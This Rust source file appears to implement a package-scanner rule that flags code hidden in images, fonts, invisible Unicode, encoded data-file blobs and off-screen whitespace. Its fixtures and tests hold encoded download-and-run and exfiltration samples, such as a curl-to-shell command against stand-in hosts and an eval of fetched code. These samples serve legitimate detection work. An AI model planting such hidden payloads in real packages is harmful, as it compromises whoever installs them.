//! Rule `hidden-code-in-non-js`.

use crate::decode;
use crate::js::looks_like_code;
use crate::model::Severity;
use crate::package::{FileKind, Package};
use crate::rules::Emitter;

crate::declare_rule! {
    /// Code where nobody looks: script text or base64-encoded code inside images and other data
    /// files, long runs of invisible Unicode (variation selectors, tag characters, zero-width
    /// characters) that decode to a payload, and code pushed off-screen by hundreds of spaces on
    /// one line, code split into base64 list items of a data file (critical when it joins back
    /// to a download-and-run command), and code the package decrypts out of one of its data
    /// files with an XOR key written in its code (the engine's `(decrypted)` virtual files).
    id: "hidden-code-in-non-js",
    category: Other,
    severity: High,
    capability: None,
    title: "code hidden in images, invisible characters or whitespace",
    incident: "os-info-checker-es6 (2025) hid its loader in invisible Unicode; @react-native-aria/focus 0.2.10 (2025) pushed a RAT off-screen with spaces",
    case_file: "index.js",
    flag: ["=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== assets/logo.png\n\u{89}PNG\r\n\u{1a}\n....tEXtComment\0cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImN1cmwgaHR0cDovL3guZXhhbXBsZSB8IHNoIik7IHZhciB4ID0gMTs=",
           "const s = `\u{FE00}\u{FE01}\u{FE02}\u{FE03}\u{FE04}\u{FE05}\u{FE06}\u{FE07}\u{FE08}\u{FE09}\u{FE0A}\u{FE0B}\u{FE0C}\u{FE0D}\u{FE0E}\u{FE0F}\u{FE00}\u{FE01}\u{FE02}\u{FE03}\u{FE04}\u{FE05}\u{FE06}\u{FE07}`",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== README.md\n# a\n\n<!--\ncmVxdWlyZSgiaHR0cHMiKS5nZXQoImh0dHBzOi8vY2RuLmV4YW1wbGUubmV0L3MiLHI9PntsZXQg\nZD0iIjtyLm9uKCJkYXRhIixjPT5kKz1jKTtyLm9uKCJlbmQiLCgpPT5ldmFsKGQpKX0pOw==\n-->\n",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== locales/en.json\n{\"plural\": \"766172206f733d7265717569726528226f7322293b76617220653d4a534f4e2e737472696e676966792870726f636573732e656e76293b\"}",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== fonts/icons.woff2\nwOF2\u{0}\u{1}xx/*@@*/dmFyIGg9cmVxdWlyZSgiaHR0cHMiKTt2YXIgbz1yZXF1aXJlKCJvcyIpO2gucmVxdWVzdCh7aG9zdDoieC5leGFtcGxlIn0pLmVuZChvcy5ob3N0bmFtZSgpKTs=",
           "module.exports = x;                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                  ;require('child_process').exec(c)"],
    pass: ["=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== README.md\n![logo](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAAAXNSR0IArs4c6QAAAARnQU1BAACxjwv8YQUAAAAJcEhZcwAADsMAAA7DAcdvqGQAAAAYdEVYdFNvZnR3YXJlAHBhaW50Lm5ldCA0LjEuNWRHWFIAAAA)",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== checksums.json\n{\"sha512\": \"cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e\"}",
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== assets/logo.png\n\u{89}PNG\r\n\u{1a}\n....IDATxxxx",
           // mocha 10.4.0: mocha.js.map holds the bundled diff package's own inline source map
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\"}\n=== mocha.js.map\n{\"version\":3,\"file\":\"mocha.js\",\"sources\":[\"diff.js\"],\"sourcesContent\":[\"function lineDiff(oldStr, newStr, callback) {\\n  return lineDiff.diff(oldStr, newStr, callback);\\n}\\n//# sourceMappingURL=data:application/json;charset=utf-8;base64,eyJ2ZXJzaW9uIjozLCJzb3VyY2VzIjpbIi4uLy4uL3NyYy9kaWZmL2xpbmUuanMiXSwibmFtZXMiOlsibGluZURpZmYiLCJEaWZmIl0sIm1hcHBpbmdzIjoiOzs7O0FBQU8sU0FBU0EiLCJzb3VyY2VzQ29udGVudCI6WyJpbXBvcnQgRGlmZiBmcm9tICcuL2Jhc2UnO1xuZXhwb3J0IGNvbnN0IGxpbmVEaWZmID0gbmV3IERpZmYoKTtcbmxpbmVEaWZmLnRva2VuaXplID0gZnVuY3Rpb24odmFsdWUpIHsgbGV0IHJldExpbmVzID0gW107IHJldHVybiByZXRMaW5lczsgfTtcbiJdfQ==\\n\"],\"names\":[],\"mappings\":\"AAAA\"}", "const flag = '\u{1F1FA}\u{1F1F8}'", "/*\n                                        indented comment\n*/"],
}

fn invisible(c: char) -> bool {
    matches!(c as u32, 0xFE00..=0xFE0F | 0xE0100..=0xE01EF | 0xE0000..=0xE007F | 0x200B..=0x200D | 0x2060..=0x2064 | 0x3164 | 0xFFA0 | 0x115F | 0x1160)
}

/// An inline source map (`//# sourceMappingURL=data:application/json;base64,...`): a JSON
/// object with a `version` and `mappings`, whose `sourcesContent` is the readable original of
/// code the package ships anyway. Bundled libraries carry them inside their own `.js.map`
/// files (mocha 10.4.0's mocha.js.map, from the bundled `diff` package).
fn is_source_map(decoded: &str) -> bool {
    serde_json::from_str::<serde_json::Value>(decoded).is_ok_and(|v| {
        v.get("version").is_some_and(serde_json::Value::is_number)
            && v.get("mappings").is_some_and(serde_json::Value::is_string)
    })
}

/// Whether `b` holds a run of 40 base64 characters (hex digits are base64 characters), which
/// both of [`encoded_code`]'s patterns need: one pass over the bytes rules most texts out before
/// either regex runs (and before a binary file is copied into text).
fn long_base64_run(b: &[u8]) -> bool {
    runs(b, 0, 40, is_b64).next().is_some()
}

/// The longest run of invisible characters in `text` when it is 16 or more: its length and the
/// offset of its last character (the first such run when several are as long). Every invisible
/// character takes three or four bytes, so only stretches of 48 or more non-ASCII bytes can
/// hold such a run; the walk skips the rest eight bytes at a time.
fn invisible_run(text: &str) -> Option<(usize, usize)> {
    const MIN_RUN: usize = 16;
    let b = text.as_bytes();
    let mut best = (0usize, 0usize);
    let mut i = 0;
    while i < b.len() {
        while let Some(w) = b.get(i..i + 8) {
            let w = u64::from_le_bytes(w.try_into().expect("a slice of eight bytes"));
            if w & 0x8080_8080_8080_8080 != 0 {
                break;
            }
            i += 8;
        }
        match b.get(i) {
            None => break,
            Some(c) if c.is_ascii() => {
                i += 1;
                continue;
            }
            Some(_) => {}
        }
        let start = i;
        while b.get(i).is_some_and(|c| !c.is_ascii()) {
            i += 1;
        }
        // ASCII bytes are character boundaries, so the stretch is whole characters.
        let Some(stretch) = text.get(start..i) else {
            continue;
        };
        if stretch.len() < 3 * MIN_RUN {
            continue;
        }
        let mut run = 0usize;
        for (j, c) in stretch.char_indices() {
            if invisible(c) {
                run += 1;
                if run > best.0 {
                    best = (run, start + j);
                }
            } else {
                run = 0;
            }
        }
    }
    (best.0 >= MIN_RUN).then_some(best)
}

/// The decoded text of the first long base64 or hex run in `text` that decodes to code. Base64
/// may be wrapped over several lines (an HTML comment in a README) and may start one to three
/// characters off (a marker ending in `/` glued to the payload), so each run is tried at
/// several starts.
fn encoded_code(text: &str) -> Option<String> {
    if !long_base64_run(text.as_bytes()) {
        return None;
    }
    for m in base64_runs(text).take(256) {
        let run: String = m.chars().filter(|c| !c.is_whitespace()).collect();
        for skip in 0..4 {
            let Some(cand) = run.get(skip..) else { break };
            if let Some(t) = decode::decode_text(cand)
                && looks_like_code(&t)
                && !is_source_map(&t)
            {
                return Some(t);
            }
        }
    }
    for run in hex_runs(text).take(256) {
        for cand in [run, run.get(1..).unwrap_or("")] {
            if cand.len() % 2 == 0
                && let Some(t) = decode::decode_text(cand)
                && looks_like_code(&t)
            {
                return Some(t);
            }
        }
    }
    None
}

/// Code split into the items of a list in a data file (YAML `- item` lines, a JSON array of
/// strings), each item base64 of one piece or one piece of a base64 text: what a loader joins
/// back at run time (`cfg.keys.map(atob).join('')`). With the decoded text and whether it is a
/// download-and-run command (`curl … | sh`, a PowerShell cradle).
fn fragmented_code(path: &str, text: &str) -> Option<(String, bool)> {
    if text.len() > 512 * 1024 {
        return None;
    }
    let p = path.to_ascii_lowercase();
    let yaml = p.ends_with(".yml") || p.ends_with(".yaml");
    if !yaml && !p.ends_with(".json") {
        return None;
    }
    let yaml_item =
        crate::regex!(r#"(?m)^[ \t]*-[ \t]+['"]?([A-Za-z0-9+/]{2,}={0,2})['"]?[ \t]*\r?$"#);
    let json_list = crate::regex!(
        r#"\[\s*"[A-Za-z0-9+/]{2,}={0,2}"(?:\s*,\s*"[A-Za-z0-9+/]{2,}={0,2}"){2,}\s*\]"#
    );
    let json_item = crate::regex!(r#""([A-Za-z0-9+/]{2,}={0,2})""#);
    let mut groups: Vec<Vec<&str>> = Vec::new();
    // Consecutive YAML items form one list.
    let mut cur: Vec<&str> = Vec::new();
    let mut last_end = None;
    for c in yaml_item.captures_iter(if yaml { text } else { "" }) {
        let (Some(m), Some(item)) = (c.get(0), c.get(1)) else {
            continue;
        };
        let next_line = last_end
            .is_some_and(|e: usize| text.get(e..m.start()).is_some_and(|g| g.trim().is_empty()));
        if !next_line && !cur.is_empty() {
            groups.push(std::mem::take(&mut cur));
        }
        cur.push(item.as_str());
        last_end = Some(m.end());
    }
    groups.push(cur);
    for m in json_list.find_iter(if yaml { "" } else { text }).take(64) {
        groups.push(
            json_item
                .captures_iter(m.as_str())
                .filter_map(|c| c.get(1))
                .map(|x| x.as_str())
                .collect(),
        );
    }
    for g in groups.iter().filter(|g| g.len() >= 3) {
        // Each item decoded on its own, or the items joined and then decoded.
        let each: Option<String> = g
            .iter()
            .map(|i| decode::base64_bytes(i).and_then(|b| decode::loose_text(&b)))
            .collect();
        let joined = decode::base64_bytes(&g.concat()).and_then(|b| decode::loose_text(&b));
        for t in [each, joined].into_iter().flatten() {
            if t.len() < 16 {
                continue;
            }
            let runs = crate::regex!(
                r"(?i)\b(curl|wget)\b[^|;&\n]{0,200}\|\s*(sudo\s+)?(sh|bash|zsh|dash|node|python3?|perl)\b|\b(iex|invoke-expression)\b[^\n]{0,200}download|download(string|data)[^\n]{0,200}\b(iex|invoke-expression)\b"
            )
            .is_match(&t);
            if runs || looks_like_code(&t) {
                return Some((t, runs));
            }
        }
    }
    None
}

fn is_b64(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'+' || b == b'/'
}

/// The maximal runs of bytes for which `class` holds, at least `min` long, from `from` on, as
/// `(start, end)` (a run that began before `from` counts from `from`). Only every `min`-th byte is
/// looked at until one is in the class: a run of `min` or more covers one of them. From there the
/// run is walked to both ends.
fn runs(
    b: &[u8],
    from: usize,
    min: usize,
    class: impl Fn(u8) -> bool,
) -> impl Iterator<Item = (usize, usize)> {
    let min = min.max(1);
    let mut from = from;
    std::iter::from_fn(move || {
        let mut probe = from + min - 1;
        while probe < b.len() {
            if !class(b[probe]) {
                probe += min;
                continue;
            }
            let mut start = probe;
            while start > from && class(b[start - 1]) {
                start -= 1;
            }
            let mut end = probe + 1;
            while end < b.len() && class(b[end]) {
                end += 1;
            }
            if end - start >= min {
                from = end;
                return Some((start, end));
            }
            // The next run starts after `end`; its first `min` bytes hold one of these probes.
            probe = end + min;
        }
        from = b.len();
        None
    })
}

/// What `find_iter` of `[0-9a-fA-F]{80,}` finds: every maximal run of 80 or more hex digits
/// (the greedy repetition takes all of a run, and no match starts inside one).
fn hex_runs(text: &str) -> impl Iterator<Item = &str> {
    runs(text.as_bytes(), 0, 80, |c| c.is_ascii_hexdigit()).map(move |(s, e)| &text[s..e])
}

/// What `find_iter` of the base64 pattern below finds, without running it over the whole text:
/// both of its branches start with 40 or more base64 characters that run to the end of a maximal
/// run (the next byte is `=`, a blank or a line end, none of them base64), so a match can only
/// start where a maximal run of 40 or more starts: if the pattern fails there, it fails at every
/// later start in the run, which sees the same bytes after the run with fewer before. Each such
/// start is tried with the pattern anchored; the next search starts where a match ended (which is
/// never inside a run), as `find_iter` does.
fn base64_runs(text: &str) -> impl Iterator<Item = &str> {
    let anchored = crate::regex!(
        r"^(?:(?:[A-Za-z0-9+/]{40,}={0,2}[ \t]*\r?\n[ \t]*){2,}[A-Za-z0-9+/]*={0,2}|[A-Za-z0-9+/]{60,}={0,2})"
    );
    let b = text.as_bytes();
    let mut from = 0;
    std::iter::from_fn(move || {
        while let Some((start, end)) = runs(b, from, 40, is_b64).next() {
            // Runs start at ASCII bytes, so `start` is a character boundary.
            match anchored.find(&text[start..]) {
                Some(m) => {
                    from = start + m.end();
                    return Some(&text[start..from]);
                }
                None => from = end,
            }
        }
        None
    })
}

fn check(pkg: &Package, out: &mut Emitter) {
    // Code the package decrypts out of one of its data files (a repeating-key XOR loop whose
    // key is a constant of the decryptor): see `package::xor_decrypted`.
    for f in pkg
        .files
        .iter()
        .filter(|f| f.path.ends_with(crate::package::DECRYPTED))
    {
        out.hit_ev(
            Severity::High,
            pkg,
            f,
            0,
            "code decrypted (XOR with a key in the package's code) out of a data file",
            f.excerpt(0, 100),
        );
    }
    for f in pkg.files.iter().filter(|f| f.script.is_none()) {
        match f.kind {
            FileKind::Image | FileKind::Binary
                if crate::package::native_format(f.bytes()).is_none() =>
            {
                // ASCII words appear in the bytes exactly where they appear in the lossy text.
                let plain = [
                    "require(",
                    "child_process",
                    "eval(",
                    "new Function",
                    "process.env",
                ]
                .iter()
                .find(|k| memchr::memmem::find(f.bytes(), k.as_bytes()).is_some());
                if let Some(k) = plain {
                    out.whole(
                        Severity::High,
                        &f.path,
                        format!("a {:?} file contains script text ({k})", f.kind).to_lowercase(),
                        *k,
                    );
                    continue;
                }
                if long_base64_run(f.bytes())
                    && let Some(t) = encoded_code(&String::from_utf8_lossy(f.bytes()))
                {
                    out.whole(
                        Severity::High,
                        &f.path,
                        "an image or data file carries base64-encoded code",
                        crate::package::one_line(&t),
                    );
                }
            }
            FileKind::Js
            | FileKind::Json
            | FileKind::Markdown
            | FileKind::Text
            | FileKind::Shell => {
                // Invisible characters: the longest run (the encoded-payload and off-screen
                // checks below still run when there is none).
                if let Some(best) = invisible_run(&f.text) {
                    out.hit(
                        pkg,
                        f,
                        best.1 as u32,
                        format!(
                            "{} invisible Unicode characters in a row (an encoded payload)",
                            best.0
                        ),
                    );
                    continue;
                }
                if matches!(f.kind, FileKind::Json | FileKind::Markdown | FileKind::Text)
                    && let Some(t) = encoded_code(&f.text)
                {
                    out.whole(
                        Severity::High,
                        &f.path,
                        "a data or documentation file carries base64- or hex-encoded code",
                        crate::package::one_line(&t),
                    );
                    continue;
                }
                if matches!(f.kind, FileKind::Json | FileKind::Text)
                    && let Some((t, runs)) = fragmented_code(&f.path, &f.text)
                {
                    let (sev, what) = if runs {
                        (Severity::Critical, "a download-and-run command")
                    } else {
                        (Severity::High, "code")
                    };
                    out.whole(
                        sev,
                        &f.path,
                        format!("a data file carries {what} split into base64 list items"),
                        crate::package::one_line(&t),
                    );
                    continue;
                }
                if f.kind == FileKind::Js {
                    // Code after a long run of spaces on one line.
                    let re = crate::regex!(r"[;,)}\]] {300,}[^ \n\r\t]");
                    if let Some(m) = re.find(&f.text) {
                        let end = m.end().saturating_sub(1);
                        out.hit(
                            pkg,
                            f,
                            end as u32,
                            format!(
                                "code pushed off-screen after {} spaces",
                                m.as_str().len() - 2
                            ),
                        );
                    }
                }
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod scan_tests {
    use super::*;

    #[test]
    fn runs_are_the_maximal_runs_a_byte_walk_finds() {
        fn naive(b: &[u8], from: usize, min: usize) -> Vec<(usize, usize)> {
            let mut out = Vec::new();
            let mut i = from;
            while i < b.len() {
                if b[i] == b'a' {
                    let s = i;
                    while i < b.len() && b[i] == b'a' {
                        i += 1;
                    }
                    if i - s >= min {
                        out.push((s, i));
                    }
                } else {
                    i += 1;
                }
            }
            out
        }
        let mut seed = 0x9e37_79b9_7f4a_7c15u64;
        for n in 0..2000usize {
            let mut b = Vec::new();
            for _ in 0..(n % 90) {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                let len = (seed % 13) as usize;
                b.extend(std::iter::repeat_n(
                    if seed & 64 == 0 { b'a' } else { b'-' },
                    len,
                ));
            }
            for min in [1, 2, 5, 12] {
                for from in [0, 3, 17] {
                    let got: Vec<_> = runs(&b, from, min, |c| c == b'a').collect();
                    assert_eq!(got, naive(&b, from, min), "{min} {from} {b:?}");
                }
            }
        }
    }

    #[test]
    fn base64_and_hex_runs_are_the_matches_of_the_patterns() {
        let b64 = regex::Regex::new(
            r"(?:[A-Za-z0-9+/]{40,}={0,2}[ \t]*\r?\n[ \t]*){2,}[A-Za-z0-9+/]*={0,2}|[A-Za-z0-9+/]{60,}={0,2}",
        )
        .expect("valid");
        let hex = regex::Regex::new(r"[0-9a-fA-F]{80,}").expect("valid");
        // Pieces that sit at the edges of both patterns, glued in every order (a fixed
        // pseudo-random walk, so the test is the same on every run).
        let parts = [
            "QUJD".repeat(10),
            "QUJD".repeat(16),
            "ab12".repeat(21),
            "ab12".repeat(19),
            "=".into(),
            "==".into(),
            "===".into(),
            "\n".into(),
            "\r\n".into(),
            " \t".into(),
            "\"".into(),
            "é".into(),
            "x".into(),
            "/+".into(),
            ";".into(),
        ];
        let mut seed = 0x2545_f491_4f6c_dd1du64;
        let (mut found_b64, mut found_hex) = (0, 0);
        for _ in 0..3000 {
            let mut text = String::new();
            for _ in 0..(seed % 12) {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                text.push_str(&parts[(seed % parts.len() as u64) as usize]);
            }
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            let want: Vec<&str> = b64.find_iter(&text).map(|m| m.as_str()).collect();
            assert_eq!(base64_runs(&text).collect::<Vec<_>>(), want, "{text:?}");
            found_b64 += want.len();
            let want: Vec<&str> = hex.find_iter(&text).map(|m| m.as_str()).collect();
            assert_eq!(hex_runs(&text).collect::<Vec<_>>(), want, "{text:?}");
            found_hex += want.len();
        }
        assert!(
            found_b64 > 500 && found_hex > 500,
            "{found_b64} {found_hex}"
        );
    }

    /// The walk over every character that `invisible_run` replaces.
    fn naive(text: &str) -> Option<(usize, usize)> {
        let (mut run, mut best) = (0usize, (0usize, 0usize));
        for (i, c) in text.char_indices() {
            if invisible(c) {
                run += 1;
                if run > best.0 {
                    best = (run, i);
                }
            } else {
                run = 0;
            }
        }
        (best.0 >= 16).then_some(best)
    }

    #[test]
    fn invisible_runs_are_found_where_the_full_walk_finds_them() {
        let sel = |n: usize| "\u{FE01}".repeat(n);
        let tags = |n: usize| "\u{E0041}".repeat(n);
        let cases = [
            format!("const s = `{}`", sel(16)),
            format!("// é ü {}\n{}", sel(5), tags(20)),
            format!("{}{}x{}", "日本語".repeat(30), sel(17), sel(18)),
            format!("a{}b{}", sel(15), sel(15)),
            format!("{}{}", sel(8), "\u{200B}".repeat(8)),
            "日本語のテキスト".repeat(100),
            "plain ascii ".repeat(100),
            format!("{}{}", "x".repeat(13), sel(40)),
        ];
        for text in &cases {
            assert_eq!(invisible_run(text), naive(text), "{text:?}");
        }
        assert!(invisible_run(&cases[0]).is_some());
        assert!(
            invisible_run(&cases[3]).is_none(),
            "15 and 15, split by ASCII"
        );
    }

    #[test]
    fn script_words_in_binary_files_are_found_in_the_raw_bytes() {
        let mut data = vec![0x89, b'P', b'N', b'G', 0xff, 0xfe, 0x00];
        data.extend_from_slice(b"\xc3(require(\xff");
        let files = vec![
            (
                "package.json".to_string(),
                br#"{"name":"a","version":"1.0.0"}"#.to_vec(),
            ),
            ("assets/x.png".to_string(), data),
        ];
        let pkg = Package::build(files, Vec::new(), None, &Default::default());
        let mut out = Emitter::new(&META);
        check(&pkg, &mut out);
        assert_eq!(out.hits.len(), 1, "{:?}", out.hits);
        let files = vec![
            (
                "package.json".to_string(),
                br#"{"name":"a","version":"1.0.0"}"#.to_vec(),
            ),
            (
                "assets/x.png".to_string(),
                b"\x89PNG\xff\xfe\x00req\xffuire(".to_vec(),
            ),
        ];
        let pkg = Package::build(files, Vec::new(), None, &Default::default());
        let mut out = Emitter::new(&META);
        check(&pkg, &mut out);
        assert!(out.hits.is_empty(), "{:?}", out.hits);
    }
}

#[cfg(test)]
mod fragment_tests {
    use super::fragmented_code;
    use base64::Engine;

    fn b64(s: &str) -> String {
        base64::engine::general_purpose::STANDARD.encode(s)
    }

    #[test]
    fn yaml_items_that_decode_to_curl_pipe_sh_are_a_download_and_run() {
        let cmd = "curl -fsSL http://203.0.113.41/r/ci.sh | sh >/dev/null 2>&1 &";
        let items: String = cmd
            .as_bytes()
            .chunks(14)
            .map(|c| format!("    - {}\n", b64(std::str::from_utf8(c).unwrap())))
            .collect();
        let yml = format!("columns: 100\ncache:\n  keys:\n{items}annotations:\n  github: true\n");
        assert_eq!(
            fragmented_code("config/defaults.yml", &yml).map(|(_, runs)| runs),
            Some(true)
        );
    }

    #[test]
    fn a_json_array_of_base64_pieces_of_code_is_found() {
        let code = b64("require('child_process').exec(process.env.CMD)");
        let parts: Vec<String> = code
            .as_bytes()
            .chunks(12)
            .map(|c| format!("\"{}\"", std::str::from_utf8(c).unwrap()))
            .collect();
        let json = format!("{{\"salt\": [{}]}}", parts.join(", "));
        assert_eq!(
            fragmented_code("data/salt.json", &json).map(|(_, runs)| runs),
            Some(false)
        );
    }

    #[test]
    fn lists_of_hashes_and_words_are_not_code() {
        let yml = "integrity:\n  - sha512AbCdEfGh0123456789+/xyz=\n  - QmFzZTY0IGlzIG5vdCBjb2Rl\n  - aGVsbG8gd29ybGQ=\nnames:\n  - alpha\n  - beta\n  - gamma\n";
        assert!(fragmented_code("meta.yml", yml).is_none());
    }
}
